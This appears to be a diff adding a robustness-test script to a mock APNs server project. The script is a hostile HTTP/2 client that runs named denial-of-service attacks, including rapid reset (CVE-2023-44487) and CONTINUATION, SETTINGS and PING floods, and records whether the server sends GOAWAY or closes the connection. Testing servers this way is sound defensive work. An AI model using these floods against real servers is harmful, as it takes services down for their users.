@@ -1,0 +1,206 @@
+"""A hostile HTTP/2 client for apns-mock's robustness tests (issue 22).
+
+usage: hostile_h2.py HOST PORT CAFILE ATTACK [AUTHORIZATION]
+
+Runs one attack over TLS (ALPN h2) and prints one JSON line: what the server did about it
+(`goaway`: its error code and last stream id, or null; `closed`: the server closed the
+connection; `answers`: responses seen), and how long it took. The attacks are the ones HTTP/2
+servers were taken down by: rapid reset (CVE-2023-44487), CONTINUATION floods, SETTINGS and PING
+floods, a burst of streams over the limit, a 2 MiB body, a zero flow-control window, random bytes
+after the preface, a TLS handshake that never finishes.
+"""
+
+import json
+import os
+import random
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.settings
+import hpack
+
+HOST, PORT, CAFILE, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+AUTHORIZATION = sys.argv[5] if len(sys.argv) > 5 else ""
+TOKEN = "ab" * 32
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def connect():
+    context = ssl.create_default_context(cafile=CAFILE)
+    context.set_alpn_protocols(["h2"])
+    raw = socket.create_connection((HOST, PORT), timeout=10)
+    tls = context.wrap_socket(raw, server_hostname="localhost")
+    return tls
+
+
+def request_headers(stream_path=None):
+    headers = [
+        (":method", "POST"),
+        (":scheme", "https"),
+        (":authority", "localhost"),
+        (":path", stream_path or "/3/device/" + TOKEN),
+        ("apns-topic", "com.example.app"),
+    ]
+    if AUTHORIZATION:
+        headers.append(("authorization", AUTHORIZATION))
+    return headers
+
+
+def read_until_closed(tls, connection, seconds):
+    """Reads what the server sends for up to `seconds`; returns (goaway, closed, answers)."""
+    goaway, closed, answers = None, False, 0
+    deadline = time.time() + seconds
+    tls.settimeout(0.2)
+    while time.time() < deadline:
+        try:
+            data = tls.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionError, ssl.SSLError, OSError):
+            closed = True
+            break
+        if not data:
+            closed = True
+            break
+        try:
+            events = connection.receive_data(data)
+        except Exception:  # a frame the client library refuses; keep reading raw
+            continue
+        for event in events:
+            if isinstance(event, h2.events.ConnectionTerminated):
+                goaway = {"code": int(event.error_code), "last": event.last_stream_id}
+            if isinstance(event, h2.events.ResponseReceived):
+                answers += 1
+        try:
+            pending = connection.data_to_send()
+            if pending:
+                tls.sendall(pending)
+        except (ConnectionError, ssl.SSLError, OSError):
+            closed = True
+            break
+    return goaway, closed, answers
+
+
+def start(settings=None):
+    tls = connect()
+    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+    connection = h2.connection.H2Connection(config=config)
+    connection.initiate_connection()
+    if settings:
+        connection.update_settings(settings)
+    tls.sendall(connection.data_to_send())
+    return tls, connection
+
+
+def send_quietly(tls, data):
+    try:
+        tls.sendall(data)
+        return True
+    except (ConnectionError, ssl.SSLError, OSError):
+        return False
+
+
+def main():
+    began = time.time()
+    result = {"attack": ATTACK}
+    encoder = hpack.Encoder()
+    if ATTACK == "slow-handshake":
+        # A TCP connection that sends half a ClientHello and waits: the server must close it.
+        raw = socket.create_connection((HOST, PORT), timeout=10)
+        raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+        raw.settimeout(30)
+        try:
+            data = raw.recv(1)
+            result["closed"] = data == b""
+        except socket.timeout:  # before OSError, of which it is a kind
+            result["closed"] = False
+        except (ConnectionError, OSError):
+            result["closed"] = True
+        result["seconds"] = round(time.time() - began, 3)
+        print(json.dumps(result))
+        return
+    tls, connection = start()
+    sent = 0
+    if ATTACK == "rapid-reset":
+        stream = 1
+        for _ in range(5000):
+            block = encoder.encode(request_headers())
+            data = frame(0x1, 0x4, stream, block) + frame(0x3, 0, stream, struct.pack(">I", 8))
+            if not send_quietly(tls, data):
+                break
+            sent += 1
+            stream += 2
+    elif ATTACK == "continuation-flood":
+        block = encoder.encode(request_headers())
+        if send_quietly(tls, frame(0x1, 0, 1, block)):
+            junk = encoder.encode([("x-flood", "y" * 200)])
+            for _ in range(20000):
+                if not send_quietly(tls, frame(0x9, 0, 1, junk)):
+                    break
+                sent += 1
+    elif ATTACK == "settings-flood":
+        for _ in range(20000):
+            if not send_quietly(tls, frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100))):
+                break
+            sent += 1
+    elif ATTACK == "ping-flood":
+        for i in range(20000):
+            if not send_quietly(tls, frame(0x6, 0, 0, struct.pack(">Q", i))):
+                break
+            sent += 1
+    elif ATTACK == "stream-burst":
+        stream = 1
+        for _ in range(10000):
+            block = encoder.encode(request_headers())
+            if not send_quietly(tls, frame(0x1, 0x4, stream, block)):
+                break
+            sent += 1
+            stream += 2
+    elif ATTACK == "big-body":
+        connection.send_headers(1, request_headers())
+        tls.sendall(connection.data_to_send())
+        chunk = b"{" + b"x" * 16382
+        for _ in range(128):  # 2 MiB, as fast as the window lets it go
+            if not send_quietly(tls, frame(0x0, 0, 1, chunk)):
+                break
+            sent += 1
+    elif ATTACK == "zero-window":
+        # The client's window is 0: the server can send no DATA (error bodies) and must not
+        # hold unbounded memory for the requests it cannot answer.
+        tls.close()
+        tls, connection = start({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+        stream = 1
+        for _ in range(2000):
+            block = encoder.encode(request_headers("/3/device/nothex"))
+            if not send_quietly(tls, frame(0x1, 0x5, stream, block)):
+                break
+            sent += 1
+            stream += 2
+    elif ATTACK == "garbage":
+        send_quietly(tls, os.urandom(4096))
+        sent = 1
+    else:
+        print(json.dumps({"error": "unknown attack " + ATTACK}))
+        sys.exit(2)
+    goaway, closed, answers = read_until_closed(tls, connection, 3)
+    result.update({"sent": sent, "goaway": goaway, "closed": closed, "answers": answers})
+    result["seconds"] = round(time.time() - began, 3)
+    try:
+        tls.close()
+    except OSError:
+        pass
+    print(json.dumps(result))
+
+
+if __name__ == "__main__":
+    random.seed(7)
+    main()
